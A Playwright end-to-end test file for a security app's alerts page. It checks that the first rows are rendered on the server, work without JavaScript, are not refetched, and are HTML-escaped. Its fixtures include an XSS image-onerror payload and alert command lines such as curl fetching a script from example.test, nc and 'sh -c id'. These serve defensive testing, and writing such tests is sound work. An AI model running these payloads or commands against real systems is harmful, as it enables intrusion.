import { type APIRequestContext, expect, test } from "@playwright/test";
import { createPrismaClient } from "../lib/db/client";
import { E2E_ADMIN_PASSWORD } from "../playwright.config";
import { E2E_DATABASE_URL } from "./database";

/**
 * The alerts page reads its first page of rows on the server, so they are in
 * the HTML before any script runs (issue 6: first rows within a second with a
 * million alerts stored). These tests look at what the real server sends for
 * alerts put straight into the end-to-end database: the HTML itself, the page
 * with JavaScript off, and that the browser does not ask for the same rows
 * again once the page is live.
 */

/** Unique per run: the e2e database is shared by every spec and every run. */
const run = Math.random().toString(36).slice(2, 10);
const MARK = `ssr-rows-${run}`;
const RULE = { id: `e2e-ssr-rule-${run}`, name: `E2E first rows ${run}` };
/** Attacker-controlled text must reach the HTML as text, never as markup. */
const HOSTILE = `<img src=x onerror="window.__kwPwned='ssr'">`;

const ALERTS = [
  { container: "api", severity: "high", rank: 3, minute: 3, command: `nc ${HOSTILE}` },
  { container: "worker", severity: "low", rank: 1, minute: 2, command: "curl http://example.test/x.sh" },
  { container: "cache", severity: "critical", rank: 4, minute: 1, command: "sh -c id" },
] as const;
const containerName = (alert: (typeof ALERTS)[number]) => `${MARK}-${alert.container}`;

test.beforeAll(async () => {
  const db = createPrismaClient(E2E_DATABASE_URL);
  try {
    await db.rule.create({
      data: {
        id: RULE.id,
        name: RULE.name,
        description: "Seeded by e2e/alerts-first-rows.spec.ts",
        query: 'process where process.name : "nc"',
        severity: "high",
        riskScore: 50,
        enabled: false,
      },
    });
    for (const [index, alert] of ALERTS.entries()) {
      await db.alert.create({
        data: {
          ruleId: RULE.id,
          ruleName: RULE.name,
          severity: alert.severity,
          severityRank: alert.rank,
          riskScore: 50,
          dedupKey: `${MARK}-${index}`,
          timestamp: new Date(Date.UTC(2026, 10, 21, 8, alert.minute)),
          containerId: `cid-${MARK}-${alert.container}`,
          containerName: containerName(alert),
          hostName: "e2e-node-ssr",
          processName: alert.command.split(" ")[0] ?? null,
          commandLine: alert.command,
          userName: "root",
        },
      });
    }
  } finally {
    await db.$disconnect();
  }
});

test.afterAll(async () => {
  const db = createPrismaClient(E2E_DATABASE_URL);
  try {
    await db.alert.deleteMany({ where: { ruleId: RULE.id } });
    await db.rule.deleteMany({ where: { id: RULE.id } });
  } finally {
    await db.$disconnect();
  }
});

async function signIn(request: APIRequestContext): Promise<void> {
  const response = await request.post("/api/auth/login", { data: { username: "admin", password: E2E_ADMIN_PASSWORD } });
  expect(response.ok(), await response.text()).toBe(true);
}

test("the HTML of /alerts already holds the first rows for the URL's filters, untrusted text escaped", async ({
  request,
}) => {
  await signIn(request);
  const response = await request.get(`/alerts?q=${MARK}`);
  expect(response.status()).toBe(200);
  const html = await response.text();

  expect(html.match(/data-testid="alert-row"/g) ?? []).toHaveLength(ALERTS.length);
  for (const alert of ALERTS) expect(html).toContain(containerName(alert));
  // Newest first, as the list sorts by default.
  const order = ALERTS.map((alert) => html.indexOf(containerName(alert)));
  expect(order).toEqual([...order].sort((a, b) => a - b));
  expect(html).toContain("nc &lt;img src=x onerror=");
  expect(html).not.toContain("<img src=x");

  // The URL's filters apply on the server too.
  const critical = await (await request.get(`/alerts?q=${MARK}&severity=critical`)).text();
  expect(critical.match(/data-testid="alert-row"/g) ?? []).toHaveLength(1);
  expect(critical).toContain(`${MARK}-cache`);
  expect(critical).not.toContain(`${MARK}-api`);
});

test("with JavaScript off the alerts page still shows the rows, as text", async ({ browser }) => {
  const context = await browser.newContext({ javaScriptEnabled: false });
  try {
    await signIn(context.request);
    const page = await context.newPage();
    await page.goto(`/alerts?q=${MARK}&sort=oldest`);
    const rows = page.getByTestId("alert-row");
    await expect(rows).toHaveCount(ALERTS.length);
    await expect(rows.first()).toContainText(`${MARK}-cache`);
    await expect(rows.last()).toContainText(`${MARK}-api`);
    await expect(rows.last()).toContainText(HOSTILE);
    await expect(page.locator('[data-testid="alert-row"] img')).toHaveCount(0);
  } finally {
    await context.close();
  }
});

test("once live, the page uses the server's rows instead of fetching them again, and filters still work", async ({
  page,
}) => {
  await signIn(page.request);
  const listRequests: string[] = [];
  // A server/browser render mismatch is logged as a React error and makes React re-render the whole page.
  const reactErrors: string[] = [];
  page.on("console", (message) => {
    if (message.type() === "error" && /react|hydrat/i.test(message.text())) reactErrors.push(message.text());
  });
  page.on("pageerror", (error) => reactErrors.push(error.message));
  page.on("request", (request) => {
    const url = new URL(request.url());
    if (url.pathname === "/api/alerts") listRequests.push(url.search);
  });
  await page.goto(`/alerts?q=${MARK}`);
  await expect(page.getByTestId("alert-row")).toHaveCount(ALERTS.length);
  // The counts arrive from the browser's own request, so the page is hydrated by now.
  await expect(page.getByTestId("alert-total")).toHaveText(`${ALERTS.length} alerts`);
  await expect(page.evaluate(() => (window as { __kwPwned?: string }).__kwPwned)).resolves.toBeUndefined();
  expect(listRequests).toEqual([]);
  expect(reactErrors).toEqual([]);
  // The rule filter's options are asked for once the total is in.
  await expect(page.getByLabel("Rule", { exact: true }).locator("option", { hasText: RULE.name })).toHaveCount(1);

  await page.getByRole("button", { name: "Critical", exact: true }).click();
  await expect(page).toHaveURL(/[?&]severity=critical/);
  await expect(page.getByTestId("alert-row")).toHaveCount(1);
  await expect(page.getByTestId("alert-row")).toContainText(`${MARK}-cache`);
  await expect(page.getByTestId("alert-total")).toHaveText("1 alert");
  // A new filter is the browser's own request; the server only renders rows for the URL a page opens with.
  expect(listRequests).toEqual([expect.stringContaining("severity=critical")]);

  // Back restores the previous filter and its rows.
  await page.goBack();
  await expect(page).not.toHaveURL(/severity=/);
  await expect(page.getByTestId("alert-row")).toHaveCount(ALERTS.length);
  await page.goForward();
  await expect(page.getByTestId("alert-row")).toHaveCount(1);

  // j moves to the first row and focuses its link, as before.
  await page.getByRole("heading", { level: 1, name: "Alerts" }).click();
  await page.keyboard.press("j");
  await expect(page.getByTestId("alert-row").first().locator("a[data-alert-link]")).toBeFocused();
});
